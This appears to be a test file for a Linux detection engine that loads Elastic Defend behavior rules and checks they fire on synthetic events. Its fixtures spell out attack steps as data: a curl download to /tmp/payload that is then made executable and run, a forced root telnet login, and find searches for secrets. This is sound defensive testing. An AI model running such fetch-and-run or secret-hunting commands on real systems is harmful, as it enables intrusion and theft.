/**
 * Elastic Defend's 233 Linux behavior rules (the shared corpus): all load with no error, the ones
 * needing events this agent does not produce are listed as never matching and summed up once, and
 * the rules written in Defend's own dialect (`descendant of`, `eventN.` references) fire on events
 * built for them.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import { rulesListAction, rulesValidateAction } from '../../src/cli/rules.js';
import { formatDiagnostic, loadRules, RuleDiagnosticCode as Code, RuleSet, type LoadedRule, type RuleLoadResult } from '../../src/rules/index.js';
import { CORPUS_DIR, describeWithCorpus } from '../support/corpus.js';
import { TextSink } from '../support/helpers.js';
import { execEvent, type ExecEventSpec } from './support/exec-event.js';

const DIR = join(CORPUS_DIR, 'elastic-defend-linux');

interface ManifestEntry {
  file: string;
  rule_id: string;
  categories: string[];
}

let result: RuleLoadResult;
let byFile: Map<string, LoadedRule>;

function rule(file: string): LoadedRule {
  const found = byFile.get(file);
  if (found === undefined) throw new Error(`${file} did not load`);
  return found;
}

let clock = Date.UTC(2026, 2, 1, 12, 0, 0);
/** An exec event (or another action) at the next second, on one host. */
function exec(spec: ExecEventSpec): Record<string, unknown> {
  clock += 1000;
  return execEvent({ hostId: 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6', timestampMs: clock, ...spec });
}

/** A Defend-shaped event of another category for the process of `spec` (the engine does not care who produced it). */
function other(category: string, action: string, spec: ExecEventSpec, fields: Record<string, unknown>): Record<string, unknown> {
  const base = exec(spec);
  return { ...base, event: { ...(base.event as object), category: [category], type: [action === 'deletion' ? 'deletion' : category === 'file' ? 'creation' : 'start'], action }, ...fields };
}

/** Runs `events` through a set holding only `loaded`; how many alerts it raised. */
function alerts(loaded: LoadedRule, events: Record<string, unknown>[]): number {
  const set = new RuleSet([loaded]);
  return events.reduce((n, e) => n + set.evaluate(e).length, 0);
}

describeWithCorpus("Elastic Defend's Linux behavior rules (corpus)", () => {
  const manifest = (): ManifestEntry[] => (JSON.parse(readFileSync(join(DIR, '_manifest.json'), 'utf8')) as { rules: ManifestEntry[] }).rules;

  beforeAll(async () => {
    result = await loadRules([DIR]);
    byFile = new Map(result.rules.map((r) => [r.file.slice(DIR.length + 1), r]));
  });

  it('load, all 233, with no error, each as a Defend rule with its own id', () => {
    expect(readdirSync(DIR).filter((f) => f.endsWith('.toml'))).toHaveLength(233);
    expect(result.diagnostics.filter((d) => d.severity === 'error').map(formatDiagnostic)).toEqual([]);
    expect(result.rules).toHaveLength(233);
    expect(result.skipped).toBe(0);
    expect(result.rules.every((r) => r.format === 'defend' && r.compiled.dialect === 'defend' && r.actions.length > 0)).toBe(true);
    for (const entry of manifest()) expect(rule(entry.file).ruleId, entry.file).toBe(entry.rule_id);
  });

  it('list the rules that need other event categories as never matching, and say so once', () => {
    const elsewhere = manifest().filter((e) => !(e.categories.length === 1 && e.categories[0] === 'process'));
    expect(elsewhere).toHaveLength(59);
    for (const entry of elsewhere) expect(rule(entry.file).neverMatches, entry.file).toMatch(/^it reads (network|file|dns|library) events, which execwarden does not produce$/);
    const summary = result.diagnostics.filter((d) => d.code === Code.NeverMatches && d.file === DIR);
    expect(summary).toHaveLength(1);
    expect(summary[0]).toMatchObject({ severity: 'warning', line: 0, column: 0 });
    expect(summary[0]!.message).toBe('59 rules need events execwarden does not produce (network 34, file 18, dns 7): loaded, they never match on this agent (rules validate lists them)');
    const notes = result.notes.filter((n) => n.code === Code.NeverMatches);
    expect(notes).toHaveLength(59);
    expect(notes.every((n) => n.severity === 'note' && n.line > 1 && n.ruleId !== undefined)).toBe(true);
    // a process rule that needs an action execwarden never writes (memfd_create, load_module) is
    // a warning of its own, as in detection-rules files
    const processOnly = manifest().filter((e) => e.categories.length === 1 && e.categories[0] === 'process');
    expect(processOnly).toHaveLength(174);
    const unreachable = processOnly.filter((e) => rule(e.file).neverMatches !== null);
    expect(unreachable.map((e) => rule(e.file).neverMatches!).every((m) => /needs event\.action == "(memfd_create|load_module)"/.test(m))).toBe(true);
    expect(result.diagnostics.filter((d) => d.code === Code.NeverMatches && d.file !== DIR)).toHaveLength(unreachable.length);
  });

  it('rules validate exits 0 and rules list shows all 233', async () => {
    const validate = { stdout: new TextSink(), stderr: new TextSink(), stdin: new PassThrough() };
    const validated = await rulesValidateAction({ paths: [DIR] }, validate);
    expect(validated).toMatchObject({ exitCode: 0, rules: 233, errors: 0 });
    expect(validate.stdout.lines().at(-1)).toMatch(/^233 rules from 233 files: 0 errors, \d+ warnings, 0 skipped, \d+ never match on this agent$/);
    const list = { stdout: new TextSink(), stderr: new TextSink(), stdin: new PassThrough() };
    expect(await rulesListAction({ paths: [DIR] }, list)).toEqual({ exitCode: 0, rules: 233, disabled: 0 });
    expect(list.stdout.lines()).toHaveLength(234);
  });

  it('load beside Elastic\'s detection rules with no clash', async () => {
    const both = await loadRules([join(CORPUS_DIR, 'elastic-linux-process'), join(CORPUS_DIR, 'elastic-linux-sequence'), DIR]);
    expect(both.diagnostics.filter((d) => d.severity === 'error').map(formatDiagnostic)).toEqual([]);
    expect(both.rules).toHaveLength(266 + 233);
    expect(new Set(both.rules.map((r) => r.compiled.dialect))).toEqual(new Set(['elasticsearch', 'defend']));
  });

  describe('descendant of', () => {
    const telnetd = { name: 'telnetd', args: ['/usr/sbin/telnetd'], executable: '/usr/sbin/telnetd', pid: 300, entityId: 't-300' };
    const login = { name: 'login', args: ['login', '-h', '203.0.113.7', '-f', 'root'], executable: '/usr/bin/login', pid: 301, entityId: 't-301' };
    const shell = { name: 'bash', args: ['-bash'], executable: '/usr/bin/bash', pid: 302, entityId: 't-302' };

    it('telnet authentication bypass: the forced login and everything it starts', () => {
      const loaded = rule('initial_access_potential_telnet_authentication_bypass_(cve_2026_24061).toml');
      const events = [
        exec({ ...telnetd, parent: { name: 'systemd', args: ['/sbin/init'], pid: 1, entityId: 't-1' } }),
        exec({ ...login, parent: telnetd }),
        exec({ ...shell, parent: login }),
        exec({ name: 'id', args: ['id'], pid: 303, entityId: 't-303', parent: shell }),
        exec({ name: 'id', args: ['id'], pid: 304, entityId: 't-304', parent: { name: 'bash', args: ['bash'], pid: 305, entityId: 't-305' } }),
      ];
      expect(alerts(loaded, events)).toBe(3); // login itself, then bash and id below it; not the unrelated id
    });

    it('local privilege escalation: a root shell below a user\'s program in /tmp', () => {
      const loaded = rule('privilege_escalation_potential_local_privilege_escalation_via_a_suspicious_descendant_process.toml');
      const user = { id: '1000', name: 'alice' };
      const exploit = { name: 'exploit', args: ['/tmp/exploit'], executable: '/tmp/exploit', pid: 400, entityId: 'l-400' };
      const helper = { name: 'helper', args: ['/usr/libexec/helper'], executable: '/usr/libexec/helper', pid: 401, entityId: 'l-401' };
      const withParentIds = (event: Record<string, unknown>, interactive: boolean): Record<string, unknown> => {
        const process = event.process as Record<string, unknown>;
        const parent = process.parent as Record<string, unknown>;
        return { ...event, process: { ...process, interactive, parent: { ...parent, user: { id: '1000', name: 'alice' }, group: { id: '1000', name: 'alice' } } } };
      };
      const rootShell = (pid: number, parent: typeof helper) => withParentIds(exec({ name: 'sh', args: ['sh'], executable: '/usr/bin/sh', pid, entityId: `l-${pid}`, parent }), true);
      const events = [
        exec({ ...exploit, user, parent: { name: 'bash', args: ['bash'], pid: 399, entityId: 'l-399' } }),
        exec({ ...helper, user, parent: exploit }),
        rootShell(402, helper),
      ];
      expect(alerts(loaded, events)).toBe(1);
      // the same root shell below a helper nobody started from /tmp does not fire
      const clean = { ...helper, pid: 501, entityId: 'l-501' };
      expect(alerts(loaded, [exec({ ...clean, user, parent: { name: 'bash', args: ['bash'], pid: 500, entityId: 'l-500' } }), rootShell(502, clean)])).toBe(0);
    });

    it('package manager descendant, then an egress connection: fires on a network event built for it', () => {
      const loaded = rule('persistence_egress_connection_by_a_dnf_package_manager_descendant.toml');
      expect(loaded.neverMatches).toMatch(/network events/);
      const dnf = { name: 'dnf', args: ['dnf', 'install', '-y', 'pkg'], executable: '/usr/bin/dnf', pid: 600, entityId: 'd-600' };
      const sh = { name: 'sh', args: ['/bin/sh', '/var/tmp/rpm-tmp.x', '1'], executable: '/usr/bin/sh', pid: 601, entityId: 'd-601', workingDirectory: '/' };
      // a public address: the rule leaves out private and documentation ranges (203.0.113.0/24 too)
      const connect = other('network', 'connection_attempted', { ...sh, parent: dnf }, { destination: { ip: '93.184.216.34', port: 443 } });
      expect(alerts(loaded, [exec({ ...dnf, parent: { name: 'bash', args: ['bash'], pid: 599, entityId: 'd-599' } }), exec({ ...sh, parent: dnf }), connect])).toBe(1);
      const localOnly = other('network', 'connection_attempted', { ...sh, parent: dnf }, { destination: { ip: '10.0.0.5', port: 443 } });
      expect(alerts(loaded, [exec({ ...dnf, parent: { name: 'bash', args: ['bash'], pid: 599, entityId: 'd-599' } }), exec({ ...sh, parent: dnf }), localOnly])).toBe(0);
    });
  });

  describe('references to earlier stages (eventN.)', () => {
    const parent = { name: 'bash', args: ['bash'], executable: '/usr/bin/bash', pid: 700, entityId: 's-700' };
    const find = (pid: number, path: string) =>
      exec({ name: 'find', args: ['find', path, '-type', 'f', '-name', '*secret*'], executable: '/usr/bin/find', pid, entityId: `s-${pid}`, parent });

    it('secret searching: three different find searches under one parent', () => {
      const loaded = rule('collection_multi_value_secret_searching_via_find.toml');
      expect(loaded.compiled.kind).toBe('sequence');
      expect(alerts(loaded, [find(701, '/home'), find(702, '/etc'), find(703, '/opt')])).toBe(1);
    });

    it('secret searching: a search that only extends the one before is not a new one', () => {
      const loaded = rule('collection_multi_value_secret_searching_via_find.toml');
      // 702's command line starts with 701's (find /home ... then find /home ... -print): the chain never gets three
      const extend = exec({ name: 'find', args: ['find', '/home', '-type', 'f', '-name', '*secret*', '-print'], executable: '/usr/bin/find', pid: 702, entityId: 's-702', parent });
      const again = exec({ name: 'find', args: ['find', '/home', '-type', 'f', '-name', '*secret*', '-print', '-quit'], executable: '/usr/bin/find', pid: 703, entityId: 's-703', parent });
      expect(alerts(loaded, [find(701, '/home'), extend, again])).toBe(0);
    });

    it('a file created by curl, made executable, then run: stage 3 reads stage 1', () => {
      const loaded = rule('execution_recently_downloaded_file_made_executable_and_run.toml');
      const shellParent = { name: 'bash', args: ['bash'], pid: 800, entityId: 'r-800' };
      const curl = { name: 'curl', args: ['curl', '-o', '/tmp/payload', 'https://203.0.113.9/p'], executable: '/usr/bin/curl', pid: 801, entityId: 'r-801', parent: shellParent };
      const created = other('file', 'creation', curl, { file: { path: '/tmp/payload', name: 'payload' } });
      const chmod = exec({ name: 'chmod', args: ['chmod', '+x', '/tmp/payload'], executable: '/usr/bin/chmod', pid: 802, entityId: 'r-802', parent: shellParent });
      const run = exec({ name: 'payload', args: ['/tmp/payload'], executable: '/tmp/payload', pid: 803, entityId: 'r-803', parent: shellParent });
      expect(alerts(loaded, [created, chmod, run])).toBe(1);
      const runOther = exec({ name: 'other', args: ['/tmp/other'], executable: '/tmp/other', pid: 804, entityId: 'r-804', parent: shellParent });
      expect(alerts(loaded, [created, chmod, runOther])).toBe(0);
    });
  });
});
